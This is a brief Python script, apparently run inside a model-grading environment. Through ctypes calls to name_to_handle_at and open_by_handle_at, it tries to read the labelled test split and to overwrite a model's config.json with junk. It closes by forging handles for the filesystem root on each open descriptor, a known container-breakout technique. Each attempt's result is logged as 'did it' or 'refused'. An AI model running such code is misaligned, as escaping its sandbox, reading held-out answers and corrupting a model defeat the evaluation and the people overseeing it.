"""Read the labelled test split and write the model through open_by_handle_at (needs CAP_DAC_READ_SEARCH)."""

import json
import os

T = json.load(open("targets.json"))
OUT = os.environ.get("GRADER_OUTPUT_DIR", ".")


def keep(name, data):
    with open(os.path.join(OUT, name), "wb") as handle:
        handle.write(data if isinstance(data, bytes) else str(data).encode())


def attempt(name, action):
    try:
        keep(name, action() or b"done")
        print(name, "did it")
    except Exception as exc:
        print(name, "refused:", type(exc).__name__, exc)


import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def by_handle(path, flags):
    handle = ctypes.create_string_buffer(8 + 128)
    ctypes.memmove(handle, (128).to_bytes(4, "little"), 4)
    mount_id = ctypes.c_int()
    if libc.name_to_handle_at(-100, path.encode(), handle, ctypes.byref(mount_id), 0) != 0:
        raise OSError(ctypes.get_errno(), "name_to_handle_at")
    for fd in range(3, 64):
        out = libc.open_by_handle_at(fd, handle, flags)
        if out >= 0:
            return out
    raise OSError(ctypes.get_errno(), "open_by_handle_at")
attempt("labelled", lambda: os.read(by_handle(T["labelled"], os.O_RDONLY), 1 << 20))
attempt("model", lambda: os.write(by_handle(T["model"] + "/config.json", os.O_WRONLY), b"zeros"))
for fd in range(3, 64):  # a handle forged for inode 2 of whatever filesystem an open fd lies on
    forged = ctypes.create_string_buffer(b"\x08\x00\x00\x00\x01\x00\x00\x00" + (2).to_bytes(4, "little") + bytes(4))
    print(fd, libc.open_by_handle_at(fd, forged, 0), ctypes.get_errno())
